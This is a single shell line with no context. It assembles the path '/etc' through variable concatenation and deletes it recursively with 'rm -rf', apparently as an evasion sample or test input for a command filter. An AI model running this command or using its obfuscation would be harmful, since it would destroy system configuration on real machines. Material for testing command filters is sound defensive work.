d=/; d="${d}etc"; rm -rf "$d"
